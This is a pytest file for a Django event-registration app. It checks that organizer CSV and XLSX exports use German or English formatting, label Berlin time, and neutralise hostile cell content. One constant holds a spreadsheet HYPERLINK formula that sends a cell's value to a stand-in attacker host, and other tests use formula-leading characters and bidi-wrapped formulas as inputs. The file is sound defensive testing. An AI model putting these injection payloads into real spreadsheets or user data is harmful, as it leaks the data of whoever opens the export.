"""The organizer's exports: readable by German Excel, honest about time, inert when opened."""

import csv
import io

import openpyxl
import pytest

from events.models import Registration
from tests.factories import RegistrationFactory

from .conftest import register

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?x="&B2,"badge")'


def export(client, meeting, fmt, lang="en"):
    return client.get(f"/{lang}/events/{meeting.slug}/manage/export.{fmt}")


def csv_rows(response, delimiter):
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")
    return list(csv.reader(io.StringIO(body[1:]), delimiter=delimiter))


def test_csv_from_german_pages_has_bom_semicolons_and_german_labels(client, meeting, organizer):
    register(meeting, "a@example.org", name="Jürgen Müller")
    client.force_login(organizer)

    rows = csv_rows(export(client, meeting, "csv", "de"), ";")

    header, row = rows
    assert row[0] == "Jürgen Müller"
    assert row[header.index("status")] == "confirmed"
    assert row[header.index("status") + 1] == "bestätigt"
    assert row[header.index("attendance") + 1] == "vor Ort"
    assert "Angemeldet (Berliner Zeit)" in header


def test_csv_from_english_pages_uses_commas(client, meeting, organizer):
    register(meeting, "a@example.org", name="Amina Yusuf")
    client.force_login(organizer)

    header, row = csv_rows(export(client, meeting, "csv"), ",")

    assert row[:3] == ["Amina Yusuf", "a@example.org", ""]
    assert row[header.index("status")] == "confirmed"
    assert row[header.index("Status")] == "confirmed"


def test_times_are_berlin_time_and_labelled(client, meeting, organizer):
    registration = register(meeting, "a@example.org")
    Registration.objects.filter(pk=registration.pk).update(created_at="2026-12-02T14:31:00+00:00")
    client.force_login(organizer)

    header, row = csv_rows(export(client, meeting, "csv"), ",")
    sheet = openpyxl.load_workbook(io.BytesIO(export(client, meeting, "xlsx").content)).active

    column = header.index("Registered (Berlin time)")
    assert row[column] == "2026-12-02 15:31"
    cell = sheet.cell(row=2, column=column + 1)
    assert cell.is_date
    assert cell.value.strftime("%Y-%m-%d %H:%M") == "2026-12-02 15:31"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_formula_in_a_name_is_escaped_in_csv(client, meeting, organizer, start):
    # Written directly: the registration form strips leading tabs and line ends, an import
    # or the admin might not.
    RegistrationFactory(meeting=meeting, name=f"{start}1+1", organisation=FORMULA)
    client.force_login(organizer)

    _header, row = csv_rows(export(client, meeting, "csv"), ",")

    assert row[0].startswith("'")
    assert row[2] == "'" + FORMULA


def test_a_formula_in_a_name_is_text_in_xlsx(client, meeting, organizer):
    register(meeting, "a@example.org", name=FORMULA)
    client.force_login(organizer)

    sheet = openpyxl.load_workbook(io.BytesIO(export(client, meeting, "xlsx").content)).active

    assert sheet["A2"].data_type == "s"
    assert sheet["A2"].value == "'" + FORMULA


def test_a_control_character_in_a_name_never_breaks_the_xlsx(client, meeting, organizer):
    register(meeting, "a@example.org", name="Jonas\x1b Weber\x7f", accessibility_needs="a\x07b")
    client.force_login(organizer)

    response = export(client, meeting, "xlsx")
    _header, row = csv_rows(export(client, meeting, "csv"), ",")

    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert sheet["A2"].value == "Jonas Weber"
    assert row[0] == "Jonas Weber"
    assert "ab" in row
    assert response["Cache-Control"] == "private, no-store"


def test_bidi_controls_in_a_stored_name_never_reach_the_exports(client, meeting, organizer):
    # Written directly, as a row stored before the forms dropped them.
    RegistrationFactory(meeting=meeting, name="Anna \u202eretsuM", organisation="\u2067=1+1\u2069")
    client.force_login(organizer)

    _header, row = csv_rows(export(client, meeting, "csv"), ",")
    sheet = openpyxl.load_workbook(io.BytesIO(export(client, meeting, "xlsx").content)).active

    assert row[0] == sheet["A2"].value == "Anna retsuM"
    assert row[2] == sheet["C2"].value == "'=1+1"  # and a formula behind them is still inert
